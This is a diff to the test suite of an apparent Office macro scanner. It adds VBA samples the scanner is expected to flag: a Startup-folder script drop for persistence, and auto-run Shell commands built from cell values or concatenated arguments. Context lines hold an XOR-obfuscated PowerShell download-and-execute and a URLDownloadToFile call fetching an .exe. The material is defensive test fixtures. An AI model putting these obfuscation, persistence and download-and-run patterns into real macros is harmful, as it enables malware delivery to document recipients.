@@ -30,6 +30,22 @@ const declared = (...names: string[]): string =>
     .map((name) => `Private Declare PtrSafe Function ${name} Lib "kernel32" (ByVal a As LongPtr) As LongPtr\r\n`)
     .join('')
 
+test('a library that can download and save, called by nothing, is a notice', () => {
+  const library = `Function Rates()
+Set h = CreateObject("MSXML2.XMLHTTP")
+h.Open "GET", "https://example.com/rates.csv", False
+h.send
+Rates = h.responseText
+End Function
+Sub Save(b)
+Set s = CreateObject("ADODB.Stream")
+s.Write b
+s.SaveToFile ThisWorkbook.Path & "\\a.png"
+End Sub`
+  const { findings } = inspect(macroDocument(library))
+  assert.deepEqual(new Set(findings.map(({ severity }) => severity)), new Set(['notice']))
+})
+
 suite('hostile macros', () => {
   const cases: Record<string, [Uint8Array, string]> = {
     'Shell on opening': [automatic('Shell "calc.exe"'), 'malicious AutoProgram'],
@@ -55,6 +71,23 @@ suite('hostile macros', () => {
         `Dim s\nFor Each c In Array(${[...'powershell -nop -w hidden iex(iwr http://192.0.2.1/a)'].map((c) => c.charCodeAt(0) ^ 7).join(', ')})\ns = s & Chr(c Xor 7)\nNext\nShell s`,
       ),
       'malicious PowerShell',
+    ],
+    'a command that is computed from unknown numbers': [
+      automatic('Dim s, c\nFor Each c In Range("A1:A9")\ns = s & Chr((c.Value - 7) / 3)\nNext\nShell s'),
+      'malicious AutoProgram',
+    ],
+    'a command from any number of arguments': [
+      automatic(
+        'Shell Word("c", "al", "c.exe")',
+        'Function Word(ParamArray p())\nFor i = 0 To UBound(p)\nWord = Word & p(i)\nNext\nEnd Function\n',
+      ),
+      'malicious AutoProgram',
+    ],
+    'a script in the start folder': [
+      automatic(
+        'Open Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs" For Output As #1',
+      ),
+      'malicious AutoProgram',
     ],
     'a download of a program': [
       macroDocument(`${URLMON}Sub A()\nURLDownloadToFile 0, "http://192.0.2.1/a.exe", "c:\\a.exe", 0, 0\nEnd Sub`),
